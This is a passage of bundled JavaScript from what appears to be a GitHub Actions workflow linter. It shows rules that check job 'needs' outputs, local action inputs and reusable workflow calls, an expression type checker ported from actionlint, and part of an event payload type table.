    level: 'error',
    description: '`needs.X.…` where job `X` is not in this job\'s `needs:`, or `needs.X.outputs.Y` where `X` declares no output `Y`.',
    help: "The `needs` context holds only the jobs listed in the job's own `needs:` (not their dependencies), and of each only the outputs it declares under `outputs:` (for a reusable workflow, its `on.workflow_call.outputs`). Anything else evaluates to an empty string, silently: a deploy then runs with an empty version or report. Add the job to `needs:`, or declare the output.",
    create(context) {
        const outputsOf = (target) => {
            if (!target.uses)
                return [...target.outputs.keys()];
            const called = context.project.local(target.uses.value);
            // A remote reusable workflow's outputs cannot be known offline.
            return called?.kind === 'workflow' && called.workflowCall ? [...called.workflowCall.outputs.keys()] : undefined;
        };
        // Lower-case output names of each job referenced, built once: a job may be referenced thousands of times.
        const declaredOf = new Map();
        const declared = (target, outputs) => {
            let set = declaredOf.get(target);
            if (!set)
                declaredOf.set(target, (set = new Set(outputs.map((o) => o.toLowerCase()))));
            return set;
        };
        return {
            jobPre(job, workflow) {
                const needed = new Map(job.needs.map((n) => [n.value.toLowerCase(), n.value]));
                const sites = [...job.expressions, ...job.outputExpressions, ...job.steps.flatMap((s) => s.expressions)];
                for (const site of sites) {
                    for (const chain of contextChains(site)) {
                        const [ctx, target, section, output] = chain.segments;
                        if (ctx.name !== 'needs' || !target || target.name === '*')
                            continue;
                        if (!needed.has(target.name.toLowerCase())) {
                            const exists = workflow.jobsByLowerId.has(target.name.toLowerCase());
                            const why = exists ? `job "${target.name}" is not in the needs of job "${job.id.value}"` : `no job "${target.name}" in this workflow`;
                            context.report(workflow.file, target, `${why} (needs: ${nameList(needed.values())})${exists ? '' : suggestJob(workflow, target.name)}`);
                            continue;
                        }
                        if (section?.name !== 'outputs' || !output || output.name === '*')
                            continue;
                        const targetJob = workflow.jobsByLowerId.get(target.name.toLowerCase());
                        if (!targetJob)
                            continue;
                        const outputs = outputsOf(targetJob);
                        if (!outputs || declared(targetJob, outputs).has(output.name.toLowerCase()))
                            continue;
                        context.report(workflow.file, output, `job "${targetJob.id.value}" declares no output "${output.name}" (outputs: ${nameList(outputs)})${didYouMean(output.name, outputs)}`);
                    }
                }
            }
        };
    }
};
/* harmony default export */ const needs_outputs_reference = (needs_outputs_reference_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/action-inputs.js
/**
 * `with:` of a step against the inputs an action declares: shared by PG114 (local actions, read from
 * the workspace) and PG150 (popular actions, from the stored table of their action.yml).
 */


/**
 * Longest name a "did you mean" is searched for: the search compares every character with every
 * candidate's, and a 200 KB key of a hostile file would take seconds. No typo is that long.
 */
const MAX_SUGGESTED_NAME = 100;
/** ` (did you mean "x"?)` for a near miss of a name of reasonable length, else an empty string. */
function suggestName(name, candidates) {
    return name.length > MAX_SUGGESTED_NAME ? '' : didYouMean(name, candidates);
}
/**
 * Reports `with:` keys that `inputs` does not declare (with `unknownLevel`), required inputs left
 * out, and deprecated inputs given (as warnings); input names are case-insensitive. `action` names
 * the action in messages.
 */
function checkStepInputs(context, file, step, inputs, action, unknownLevel) {
    const declared = new Map([...inputs.keys()].map((k) => [k.toLowerCase(), k]));
    for (const [key, entry] of step.with) {
        const name = declared.get(key.toLowerCase());
        if (name === undefined) {
            context.report(file.file, entry.key, `input "${key}" is not declared by ${action} (inputs: ${nameList(declared.values())})${suggestName(key, declared.values())}`, unknownLevel);
        }
        else if (inputs.get(name)?.deprecated) {
            context.report(file.file, entry.key, `input "${key}" of ${action} is deprecated; see the action's README for its replacement`, 'warning');
        }
    }
    const given = new Set([...step.with.keys()].map((k) => k.toLowerCase()));
    const missing = [...inputs].filter(([name, input]) => input.required && !given.has(name.toLowerCase())).map(([name]) => name);
    if (missing.length) {
        context.report(file.file, step.withKey ?? step.uses, `required input${missing.length > 1 ? 's' : ''} ${nameList(missing)} of ${action} not given`, unknownLevel);
    }
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/local-action-inputs.js


const local_action_inputs_rule = {
    id: 'PG114',
    name: 'local-action-inputs',
    level: 'error',
    description: "`with:` keys that a local action's `action.yml` does not declare, and required inputs (without a default) left out.",
    help: 'For `uses: ./path/to/action` (or the self-repository reference `uses: $/path/to/action`), the inputs are read from `path/to/action/action.yml` in the workspace. An undeclared key is ignored by the runner (with only a warning in the log), so a misspelt input silently takes its default; a required input without a default that is not given is usually a bug. Input names are case-insensitive.',
    create(context) {
        return {
            step(step, _owner, file) {
                const uses = step.uses?.value;
                if (!isLocalUses(uses))
                    return;
                const action = context.project.local(uses);
                if (action?.kind !== 'action')
                    return;
                const inputs = new Map([...action.inputs].map(([name, input]) => [name, { required: input.required && !input.hasDefault }]));
                checkStepInputs(context, file, step, inputs, action.file.path);
            }
        };
    }
};
/* harmony default export */ const local_action_inputs = (local_action_inputs_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/reusable-workflow-call.js
/** PG115 reusable-workflow-call: inputs and secrets passed to a local reusable workflow. */



function compare(context, file, what, given, declared, called, anchor, level) {
    const names = new Map([...declared.keys()].map((k) => [k.toLowerCase(), k]));
    for (const [key, entry] of given) {
        if (names.has(key.toLowerCase()))
            continue;
        context.report(file, entry.key, `${what} "${key}" is not declared by on.workflow_call of ${called} (${what}s: ${nameList(names.values())})${didYouMean(key, names.values())}`, level);
    }
    const passed = new Set([...given.keys()].map((k) => k.toLowerCase()));
    const missing = [...declared]
        .filter(([name, entry]) => {
        if (passed.has(name.toLowerCase()))
            return false;
        const spec = entry.value;
        const required = spec.find?.('required')?.toString().toLowerCase() === 'true';
        return required && !spec.find?.('default');
    })
        .map(([name]) => name);
    if (missing.length)
        context.report(file, anchor, `required ${what}${missing.length > 1 ? 's' : ''} ${nameList(missing)} of ${called} not given`, level);
}
/**
 * Checks the `with:` and `secrets:` of a job that calls `called` (named `name` in messages) against
 * its `on.workflow_call`; shared with PG150, which reads remote reusable workflows through the API
 * (and gives `level`: GitHub refuses such a run, whatever that rule's own level).
 */
function checkWorkflowCall(context, workflow, job, called, name, level) {
    const uses = job.uses;
    const call = called.workflowCall;
    if (!call) {
        context.report(workflow.file, uses, `${name} has no on.workflow_call trigger: it cannot be called as a reusable workflow`, level);
        return;
    }
    compare(context, workflow.file, 'input', job.with, call.inputs, name, job.withKey ?? uses, level);
    if (job.secrets !== 'inherit')
        compare(context, workflow.file, 'secret', job.secrets, call.secrets, name, job.secretsKey ?? uses, level);
}
const reusable_workflow_call_rule = {
    id: 'PG115',
    name: 'reusable-workflow-call',
    level: 'error',
    description: 'A call of a local reusable workflow with inputs or secrets its `on.workflow_call` does not declare, required ones missing, or no `workflow_call` trigger at all.',
    help: 'For `uses: ./.github/workflows/x.yml` (or `$/.github/workflows/x.yml`), GitHub checks `with:` and `secrets:` against the `on.workflow_call` of the called workflow when the run starts, and refuses the run when an input or secret is unknown or a required one (without a default) is missing. This finds it before the push. `secrets: inherit` passes every secret.',
    create(context) {
        return {
            jobPre(job, workflow) {
                const uses = job.uses;
                if (!uses || !isLocalUses(uses.value))
                    return;
                const called = context.project.local(uses.value);
                if (called?.kind === 'workflow')
                    checkWorkflowCall(context, workflow, job, called, called.file.path);
            }
        };
    }
};
/* harmony default export */ const reusable_workflow_call = (reusable_workflow_call_rule);

// EXTERNAL MODULE: ./node_modules/@actions/expressions/dist/data/expressiondata.js
var expressiondata = __webpack_require__(1674);
// EXTERNAL MODULE: ./node_modules/@actions/expressions/dist/lexer.js
var lexer = __webpack_require__(2083);
// EXTERNAL MODULE: ./node_modules/@actions/expressions/dist/errors.js
var errors = __webpack_require__(2830);
;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/types.js
/**
 * The types of expressions, ported from actionlint's expr_type.go and expr_sema.go: `any`, `null`,
 * `number`, `bool`, `string`, objects (strict with known properties, a map `{string => T}`, or
 * loose when unknown) and arrays. {@link checkExpression} types one `${{ }}` in a {@link Scope}
 * (the type of each context there) and lists what is wrong with it: unknown properties, comparisons
 * that are always false, arguments of the wrong type, dereferences of non-objects. What cannot be
 * known is `any`, which is never wrong.
 */






const ANY = { kind: 'any' };
const NULL = { kind: 'null' };
const NUMBER = { kind: 'number' };
const BOOL = { kind: 'bool' };
const STRING = { kind: 'string' };
/** A strict object: exactly these properties. */
function strictObject(props = {}) {
    return { kind: 'object', props: props instanceof Map ? props : new Map(Object.entries(props)) };
}
/** An object with these properties and any others (of any type). */
function looseObject(props = {}) {
    return { kind: 'object', props: new Map(Object.entries(props)), mapped: ANY };
}
/** `{string => T}`: any property, each of type T. */
function mapOf(t) {
    return { kind: 'object', props: new Map(), mapped: t };
}
function arrayOf(elem, deref = false) {
    return { kind: 'array', elem, deref };
}
/** The type as actionlint writes it: `{a: string; b: number}`, `{string => string}`, `object`, `array<T>`. */
function typeName(t, depth = 0, mostProps = Infinity) {
    if (depth > 8)
        return '…';
    switch (t.kind) {
        case 'object': {
            if (t.mapped)
                return t.mapped.kind === 'any' ? 'object' : `{string => ${typeName(t.mapped, depth + 1, mostProps)}}`;
            const names = [...t.props.keys()].sort();
            const shown = names.slice(0, mostProps).map((n) => `${n}: ${typeName(t.props.get(n), depth + 1, mostProps)}`);
            if (names.length > shown.length)
                shown.push(`… ${names.length - shown.length} more`);
            return `{${shown.join('; ')}}`;
        }
        case 'array':
            return `array<${typeName(t.elem, depth + 1, mostProps)}>`;
        default:
            return t.kind;
    }
}
/** Most characters of a type a message spells out (`github.event` is a tree of hundreds of properties). */
const MESSAGE_TYPE_CHARS = 160;
/** The type for a message: whole when short, else its kind (`object`, `array`). */
function briefTypeName(t) {
    const s = typeName(t);
    return s.length <= MESSAGE_TYPE_CHARS ? s : t.kind;
}
/** Whether a value of type `other` may be given where `to` is expected (actionlint's Assignable). */
function assignable(to, other) {
    if (other.kind === 'any')
        return true;
    switch (to.kind) {
        case 'any':
        case 'bool':
            return true;
        case 'null':
            return other.kind === 'null';
        case 'number':
            return other.kind === 'number';
        case 'string':
            return other.kind === 'string' || other.kind === 'number';
        case 'array':
            return other.kind === 'array' && assignable(to.elem, other.elem);
        case 'object': {
            if (other.kind !== 'object')
                return false;
            if (to.mapped) {
                if (other.mapped)
                    return assignable(to.mapped, other.mapped);
                return [...other.props.values()].every((t) => assignable(to.mapped, t));
            }
            if (other.mapped)
                return [...to.props.values()].every((t) => assignable(t, other.mapped));
            return [...other.props].every(([n, r]) => to.props.has(n) && assignable(to.props.get(n), r));
        }
    }
}
/** The type of a value that is one of `a` or `b` (actionlint's Merge). */
function merge(a, b) {
    switch (a.kind) {
        case 'any':
            return a;
        case 'null':
            return b.kind === 'null' ? a : ANY;
        case 'number':
        case 'bool':
            return b.kind === a.kind ? a : b.kind === 'string' ? b : ANY;
        case 'string':
            return b.kind === 'string' || b.kind === 'number' || b.kind === 'bool' ? a : ANY;
        case 'array':
            if (b.kind !== 'array')
                return ANY;
            if (a.elem.kind === 'any')
                return a;
            if (b.elem.kind === 'any')
                return b;
            return arrayOf(merge(a.elem, b.elem));
        case 'object': {
            if (b.kind !== 'object')
                return ANY;
            if (a.props.size === 0 && b.mapped?.kind === 'any')
                return b;
            if (b.props.size === 0 && a.mapped?.kind === 'any')
                return a;
            let mapped = a.mapped === undefined ? b.mapped : b.mapped !== undefined ? merge(a.mapped, b.mapped) : a.mapped;
            const props = new Map(a.props);
            for (const [n, r] of b.props) {
                const l = props.get(n);
                if (l)
                    props.set(n, merge(l, r));
                else {
                    props.set(n, r);
                    if (mapped)
                        mapped = merge(mapped, r);
                }
            }
            return a.nullable || b.nullable ? { kind: 'object', props, mapped, nullable: true } : { kind: 'object', props, mapped };
        }
    }
}
/** The type of a JSON value (for `fromJSON('…')` of a literal). */
function typeOfJSON(v, depth = 0) {
    if (depth > 32)
        return ANY;
    if (v === null)
        return NULL;
    if (typeof v === 'boolean')
        return BOOL;
    if (typeof v === 'number')
        return NUMBER;
    if (typeof v === 'string')
        return STRING;
    if (Array.isArray(v)) {
        let elem;
        for (const e of v)
            elem = elem ? merge(elem, typeOfJSON(e, depth + 1)) : typeOfJSON(e, depth + 1);
        return arrayOf(elem ?? ANY);
    }
    const props = new Map();
    for (const [k, e] of Object.entries(v))
        props.set(k.toLowerCase(), typeOfJSON(e, depth + 1));
    return strictObject(props);
}
const sig = (name, ret, params, variadic = false) => ({ name, ret, params, variadic });
/** Every function of GitHub's expressions by lower-case name, with its overloads. */
const FUNCTIONS = new Map([
    ['contains', [sig('contains', BOOL, [STRING, STRING]), sig('contains', BOOL, [arrayOf(ANY), ANY])]],
    ['startswith', [sig('startsWith', BOOL, [STRING, STRING])]],
    ['endswith', [sig('endsWith', BOOL, [STRING, STRING])]],
    ['format', [sig('format', STRING, [STRING, ANY], true)]],
    ['join', [sig('join', STRING, [arrayOf(STRING), STRING]), sig('join', STRING, [arrayOf(STRING)])]],
    ['tojson', [sig('toJSON', STRING, [ANY])]],
    ['fromjson', [sig('fromJSON', ANY, [STRING])]],
    ['hashfiles', [sig('hashFiles', STRING, [STRING], true)]],
    ['success', [sig('success', BOOL, [])]],
    ['always', [sig('always', BOOL, [])]],
    ['cancelled', [sig('cancelled', BOOL, [])]],
    ['failure', [sig('failure', BOOL, [])]],
    ['case', [sig('case', ANY, [BOOL, ANY, ANY], true)]]
]);
function signatureText(s) {
    return `${s.name}(${s.params.map((p) => typeName(p)).join(', ')}${s.variadic ? '...' : ''}) -> ${typeName(s.ret)}`;
}
/** Most retries of a parse with a name the parser did not know (reported by the parser rules). */
const MAX_UNKNOWN_NAMES = 16;
const BUILTIN_CONTEXTS = ['github', 'env', 'vars', 'job', 'jobs', 'steps', 'runner', 'secrets', 'strategy', 'matrix', 'needs', 'inputs'];
const EXTRA_FUNCTIONS = ['hashFiles', 'success', 'always', 'cancelled', 'failure'];
/**
 * The tree of an expression, whatever names it uses: unknown contexts and functions are the
 * parser rules' business (PG103, PG104), and must not hide the types of the rest.
 */
function parseLenient(text) {
    const contexts = [...BUILTIN_CONTEXTS];
    const functions = EXTRA_FUNCTIONS.map((name) => ({ name, description: '', minArgs: 0, maxArgs: 255 }));
    for (let i = 0; i <= MAX_UNKNOWN_NAMES; i++) {
        try {
            return new expressions_dist/* Parser */.iX(new expressions_dist/* Lexer */.JG(text).lex().tokens, contexts, functions).parse();
        }
        catch (err) {
            if (!(err instanceof errors/* ExpressionError */.tj))
                return undefined;
            const { typ, tok } = err;
            const name = tok.lexeme;
            if (typ === errors/* ErrorType */.By.ErrorUnrecognizedContext || typ === errors/* ErrorType */.By.ErrorUnrecognizedNamedValue)
                contexts.push(name);
            else if (typ === errors/* ErrorType */.By.ErrorUnrecognizedFunction)
                functions.push({ name, description: '', minArgs: 0, maxArgs: 255 });
            else
                return undefined;
        }
    }
    return undefined;
}
/** Most properties of an object type a message spells out (`github` has 44). */
const MESSAGE_PROPS = 12;
function ordinal(i) {
    const s = i % 10 === 1 && i % 100 !== 11 ? 'st' : i % 10 === 2 && i % 100 !== 12 ? 'nd' : i % 10 === 3 && i % 100 !== 13 ? 'rd' : 'th';
    return `${i}${s}`;
}
/** The placeholders `{n}` of a format string (`{{` escapes a brace), as actionlint reads them. */
function formatPlaceholders(f) {
    const out = new Set();
    for (const m of f.replace(/\{\{|\}\}/g, '  ').matchAll(/\{(\d+)\}/g))
        out.add(Number(m[1]));
    return out;
}
const COMPARISONS = new Map([
    [lexer/* TokenType */.ks.EQUAL_EQUAL, '=='],
    [lexer/* TokenType */.ks.BANG_EQUAL, '!='],
    [lexer/* TokenType */.ks.LESS, '<'],
    [lexer/* TokenType */.ks.LESS_EQUAL, '<='],
    [lexer/* TokenType */.ks.GREATER, '>'],
    [lexer/* TokenType */.ks.GREATER_EQUAL, '>=']
]);
/** Whether `l op r` can ever be true (actionlint's validateCompareOpOperands). */
function comparable(op, l, r) {
    // An object that may be null compares with a scalar as null does (`null == ''` is true).
    const composite = (t) => (t.kind === 'object' && !t.nullable) || t.kind === 'array';
    if (op === lexer/* TokenType */.ks.EQUAL_EQUAL || op === lexer/* TokenType */.ks.BANG_EQUAL) {
        switch (l.kind) {
            case 'any':
            case 'null':
                return true;
            case 'number':
            case 'bool':
            case 'string':
                return !composite(r);
            case 'object':
                return r.kind === 'object' || r.kind === 'null' || r.kind === 'any' || (l.nullable === true && !composite(r));
            case 'array':
                return r.kind === 'array' ? comparable(op, l.elem, r.elem) : r.kind === 'null' || r.kind === 'any';
        }
    }
    if (l.kind === 'any' || l.kind === 'number' || l.kind === 'string')
        return !(r.kind === 'null' || r.kind === 'bool' || composite(r));
    return false;
}
/** Types `site` in `scope`. An expression that does not parse has type `any` and no problems (PG102 says why). */
function checkExpression(site, scope) {
    const tree = parseLenient(site.text);
    if (!tree)
        return { type: ANY, problems: [] };
    return new Checker(site, scope).run(tree);
}
/** The type of an expression in a scope, for rules that need to know it. */
function typeOf(site, scope) {
    return checkExpression(site, scope).type;
}
class Checker {
    site;
    scope;
    problems = [];
    constructor(site, scope) {
        this.site = site;
        this.scope = scope;
    }
    run(tree) {
        const type = this.check(tree, 0);
        return { type, problems: this.problems };
    }
    pos(p) {
        const at = this.site.at;
        return p.line === 0 ? { line: at.line, column: at.column + p.column } : { line: at.line + p.line, column: p.column + 1 };
    }
    /** The first token of a node, where actionlint reports it. */
    start(e) {
        const token = (t) => this.pos(t.range.start);
        if (e instanceof ast/* Literal */.uS)
            return token(e.token);
        if (e instanceof ast/* ContextAccess */.QC)
            return token(e.name);
        if (e instanceof ast/* FunctionCall */.R6)
            return token(e.functionName);
        if (e instanceof ast/* Unary */._c)
            return token(e.operator);
        if (e instanceof ast/* Binary */.yI)
            return this.start(e.left);
        if (e instanceof ast/* Logical */.oD)
            return this.start(e.args[0]);
        if (e instanceof ast/* Grouping */.aU)
            return this.start(e.group);
        if (e instanceof ast/* IndexAccess */.p_)
            return this.start(e.expr);
        return this.site.at;
    }
    report(kind, e, message, path, name) {
        this.problems.push({ kind, message, at: 'line' in e ? e : this.start(e), path, name });
    }
    check(e, depth) {
        if (depth > 100)
            return ANY;
        if (e instanceof ast/* Literal */.uS) {
            switch (e.literal.kind) {
                case expressiondata/* Kind */.b.Null:
                    return NULL;
                case expressiondata/* Kind */.b.Boolean:
                    return BOOL;
                case expressiondata/* Kind */.b.Number:
                    return NUMBER;
                default:
                    return STRING;
            }
        }
        if (e instanceof ast/* ContextAccess */.QC)
            return this.scope.get(e.name.lexeme.toLowerCase()) ?? ANY;
        if (e instanceof ast/* Grouping */.aU)
            return this.check(e.group, depth + 1);
        if (e instanceof ast/* Unary */._c) {
            this.check(e.expr, depth + 1);
            return BOOL;
        }
        if (e instanceof ast/* Logical */.oD)
            return e.args.map((a) => this.check(a, depth + 1)).reduce((a, b) => merge(a, b));
        if (e instanceof ast/* Binary */.yI) {
            const l = this.check(e.left, depth + 1);
            const r = this.check(e.right, depth + 1);
            const op = COMPARISONS.get(e.operator.type);
            if (op && !comparable(e.operator.type, l, r)) {
                const outcome = op === '==' ? 'it is always false' : op === '!=' ? 'it is always true' : 'only numbers and strings have an order';
                this.report('type', e, `"${briefTypeName(l)}" value cannot be compared to "${briefTypeName(r)}" value with "${op}" operator: ${outcome}`);
            }
            return BOOL;
        }
        if (e instanceof ast/* IndexAccess */.p_)
            return this.index(e, depth);
        if (e instanceof ast/* FunctionCall */.R6)
            return this.call(e, depth);
        return ANY;
    }
    /** `a.b`, `a['b']`, `a[0]` and `a.*`. */
    index(e, depth) {
        const receiver = this.check(e.expr, depth + 1);
        const index = e.index;
        if (index.constructor.name === 'Star')
            return this.filter(e, receiver);
        if (index instanceof ast/* Literal */.uS && index.token.type === lexer/* TokenType */.ks.IDENTIFIER)
            return this.property(e, receiver, index.token.lexeme.toLowerCase());
        const idx = this.check(index, depth + 1);
        switch (receiver.kind) {
            case 'any':
                return ANY;
            case 'array':
                if (idx.kind === 'any' || idx.kind === 'number')
                    return receiver.elem;
                this.report('type', index, `index access of array must be type of number but got "${briefTypeName(idx)}"`);
                return ANY;
            case 'object':
                if (idx.kind === 'any')
                    return ANY;
                if (idx.kind === 'string') {
                    if (index instanceof ast/* Literal */.uS) {
                        const name = index.literal.coerceString().toLowerCase();
                        const prop = receiver.props.get(name);
                        if (prop)
                            return prop;
                        if (!receiver.mapped)
                            this.unknownProperty(e, receiver, name);
                    }
                    return receiver.mapped ?? ANY;
                }
                this.report('type', index, `property access of object must be type of string but got "${briefTypeName(idx)}"`);
                return ANY;
            default:
                this.report('type', e, `index access operand must be type of object or array but got "${briefTypeName(receiver)}"`);
                return ANY;
        }
    }
    property(e, receiver, name) {
        switch (receiver.kind) {
            case 'any':
                return ANY;
            case 'object': {
                const t = receiver.props.get(name);
                if (t)
                    return t;
                if (receiver.mapped) {
                    if (e.expr instanceof ast/* ContextAccess */.QC && e.expr.name.lexeme.toLowerCase() === 'vars')
                        this.variableName(e, name);
                    return receiver.mapped;
                }
                this.unknownProperty(e, receiver, name);
                return ANY;
            }
            case 'array': {
                if (!receiver.deref) {
                    this.report('type', e, `receiver of object dereference "${name}" must be type of object but got "${briefTypeName(receiver)}"`);
                    return ANY;
                }
                const et = receiver.elem;
                if (et.kind === 'any')
                    return receiver;
                if (et.kind === 'object') {
                    const t = et.props.get(name) ?? et.mapped;
                    if (!t)
                        this.unknownProperty(e, et, name, ' as element of filtered array');
                    return arrayOf(t ?? ANY, true);
                }
                this.report('type', e, `property filtered by "${name}" at object filtering must be type of object but got "${briefTypeName(et)}"`);
                return ANY;
            }
            default:
                this.report('type', e, `receiver of object dereference "${name}" must be type of object but got "${briefTypeName(receiver)}"`);
                return ANY;
        }
    }
    unknownProperty(e, receiver, name, where = '') {
        const path = chainPath(e.expr);
        const hint = didYouMean(name, receiver.props.keys());
        // A deep object (a webhook payload) is named by its own properties only.
        let shown = typeName(receiver, 0, MESSAGE_PROPS);
        if (shown.length > MESSAGE_TYPE_CHARS * 2)
            shown = typeName({ ...receiver, props: new Map([...receiver.props].map(([k, t]) => [k, shallow(t)])) }, 0, MESSAGE_PROPS);
        this.report('property', e, `property "${name}" is not defined in object type ${shown}${where}${hint}`, path, name);
    }
    /** `vars.<name>`: a configuration variable can have no other name (actionlint's checkConfigVariables). */
    variableName(e, name) {
        const see = 'see https://docs.github.com/en/actions/learn-github-actions/variables#naming-conventions-for-configuration-variables';
        if (name.startsWith('github_'))
            this.report('property', e, `configuration variable name "${name}" must not start with the GITHUB_ prefix (case insensitive); ${see}`, ['vars'], name);
        else if (/[^0-9a-z_]/.test(name))
            this.report('property', e, `configuration variable name "${name}" can only contain letters, digits and '_'; ${see}`, ['vars'], name);
    }
    /** `.*` */
    filter(e, receiver) {
        switch (receiver.kind) {
            case 'any':
                return arrayOf(ANY, true);
            case 'array':
                return { ...receiver, deref: true };
            case 'object':
                if (receiver.mapped) {
                    if (receiver.mapped.kind === 'any')
                        return arrayOf(ANY, true);
                    if (receiver.mapped.kind === 'object')
                        return arrayOf(receiver.mapped, true);
                    this.report('type', e, `elements of object at receiver of object filtering \`.*\` must be type of object but got "${briefTypeName(receiver.mapped)}"`);
                    return ANY;
                }
                if (![...receiver.props.values()].some((t) => t.kind === 'object')) {
                    this.report('type', e, `object type "${briefTypeName(receiver)}" cannot be filtered by object filtering \`.*\` since it has no object element`);
                    return ANY;
                }
                return arrayOf(ANY, true);
            default:
                this.report('type', e, `receiver of object filtering \`.*\` must be type of array or object but got "${briefTypeName(receiver)}"`);
                return ANY;
        }
    }
    call(e, depth) {
        const name = e.functionName.lexeme.toLowerCase();
        const args = e.args.map((a) => this.check(a, depth + 1));
        const sigs = FUNCTIONS.get(name);
        // An unknown function, or a wrong number of arguments: the parser says so (PG104, PG102).
        if (!sigs)
            return ANY;
        let mismatch;
        for (const s of sigs) {
            const n = s.params.length;
            if (s.variadic ? args.length < n : args.length !== n)
                continue;
            const bad = args.findIndex((a, i) => !assignable(s.params[Math.min(i, n - 1)], a));
            if (bad < 0)
                return this.special(e, name, s);
            const p = s.params[Math.min(bad, n - 1)];
            mismatch ??= {
                kind: 'type',
                at: this.start(e.args[bad]),
                message: `${ordinal(bad + 1)} argument of function call is not assignable: "${briefTypeName(args[bad])}" cannot be assigned to "${briefTypeName(p)}"; called function type is "${signatureText(s)}"`
            };
        }
        if (mismatch)
            this.problems.push(mismatch);
        return ANY;
    }
    /** The checks of format(), fromJSON() and case() beyond their types. */
    special(e, name, s) {
        const first = e.args[0];
        const literal = first instanceof ast/* Literal */.uS && first.literal.kind === expressiondata/* Kind */.b.String ? String(first.literal.coerceString()) : undefined;
        if (name === 'format' && literal !== undefined) {
            const holders = formatPlaceholders(literal);
            const given = e.args.length - 1;
            for (let i = 0; i < given; i++) {
                if (!holders.delete(i))
                    this.report('call', e, `format string "${literal}" does not contain placeholder {${i}}; remove the argument, which is unused`);
            }
            for (const i of holders)
                this.report('call', e, `format string "${literal}" contains placeholder {${i}} but only ${given} arguments are given to format`);
        }
        else if (name === 'fromjson' && literal !== undefined) {
            try {
                return typeOfJSON(JSON.parse(literal));
            }
            catch (err) {
                this.report('call', first, `broken JSON string is passed to fromJSON(): ${err.message}`);
            }
        }
        return s.ret;
    }
}
/** A type with the properties of its objects left out: `object`, `array<object>`. */
function shallow(t) {
    if (t.kind === 'object')
        return looseObject();
    if (t.kind === 'array')
        return arrayOf(shallow(t.elem));
    return t;
}
/** `matrix.os` → ["matrix", "os"]; undefined when the receiver is not a plain chain of names. */
function chainPath(e) {
    const path = [];
    let cur = e;
    for (let i = 0; i < 64; i++) {
        if (cur instanceof ast/* ContextAccess */.QC)
            return [cur.name.lexeme.toLowerCase(), ...path];
        if (!(cur instanceof ast/* IndexAccess */.p_) || !(cur.index instanceof ast/* Literal */.uS))
            return undefined;
        path.unshift(String(cur.index.token.type === lexer/* TokenType */.ks.IDENTIFIER ? cur.index.token.lexeme : cur.index.literal.coerceString()).toLowerCase());
        cur = cur.expr;
    }
    return undefined;
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/event-payloads.data.js
const EVENT_SHARED = [{ "avatar_url": "s", "created_at": "s", "description": "s", "html_url": "s", "id": "n", "name": "s", "node_id": "s", "slug": "s", "updated_at": "s", "website_url": "s" },
    { "avatar_url": "s", "description": "s", "events_url": "s", "hooks_url": "s", "id": "n", "issues_url": "s", "login": "s", "members_url": "s", "node_id": "s", "public_members_url": "s", "repos_url": "s", "url": "s" },
    { "html_url": "s", "key": "s", "name": "s", "node_id": "s", "spdx_id": "s", "url": "s" },
    { "avatar_url": "s", "email": "s", "events_url": "s", "followers_url": "s", "following_url": "s", "gists_url": "s", "gravatar_id": "s", "html_url": "s", "id": "n", "login": "s", "name": "s", "node_id": "s", "organizations_url": "s", "received_events_url": "s", "repos_url": "s", "site_admin": "b", "starred_at": "s", "starred_url": "s", "subscriptions_url": "s", "type": "s", "url": "s", "user_view_type": "s" },
    { "admin": "b", "maintain": "b", "pull": "b", "push": "b", "triage": "b" },
    { "avatar_url": "s", "events_url": "s", "followers_url": "s", "following_url": "s", "gists_url": "s", "gravatar_id": "s", "html_url": "s", "id": "n", "login": "s", "node_id": "s", "organizations_url": "s", "received_events_url": "s", "repos_url": "s", "site_admin": "b", "starred_url": "s", "subscriptions_url": "s", "type": "s", "url": "s" },
    { "allow_auto_merge": "b", "allow_merge_commit": "b", "allow_rebase_merge": "b", "allow_squash_merge": "b", "allow_update_branch": "b", "archive_url": "s", "archived": "b", "assignees_url": "s", "blobs_url": "s", "branches_url": "s", "clone_url": "s", "collaborators_url": "s", "comments_url": "s", "commits_url": "s", "compare_url": "s", "contents_url": "s", "contributors_url": "s", "created_at": "s", "default_branch": "s", "delete_branch_on_merge": "b", "deployments_url": "s", "description": "s", "disabled": "b", "downloads_url": "s", "events_url": "s", "fork": "b", "forks_count": "n", "forks_url": "s", "full_name": "s", "git_commits_url": "s", "git_refs_url": "s", "git_tags_url": "s", "git_url": "s", "has_downloads": "b", "has_issues": "b", "has_pages": "b", "has_projects": "b", "has_wiki": "b", "homepage": "s", "hooks_url": "s", "html_url": "s", "id": "n", "is_template": "b", "issue_comment_url": "s", "issue_events_url": "s", "issues_url": "s", "keys_url": "s", "labels_url": "s", "language": "s", "languages_url": "s", "merge_commit_message": "s", "merge_commit_title": "s", "merges_url": "s", "milestones_url": "s", "mirror_url": "s", "name": "s", "network_count": "n", "node_id": "s", "notifications_url": "s", "open_issues_count": "n", "owner": "#5", "permissions": "#4", "private": "b", "pulls_url": "s", "pushed_at": "s", "releases_url": "s", "size": "n", "squash_merge_commit_message": "s", "squash_merge_commit_title": "s", "ssh_url": "s", "stargazers_count": "n", "stargazers_url": "s", "statuses_url": "s", "subscribers_count": "n", "subscribers_url": "s", "subscription_url": "s", "svn_url": "s", "tags_url": "s", "teams_url": "s", "temp_clone_token": "s", "topics": ["s"], "trees_url": "s", "updated_at": "s", "url": "s", "use_squash_pr_title_as_default": "b", "visibility": "s", "watchers_count": "n", "~": "?" },
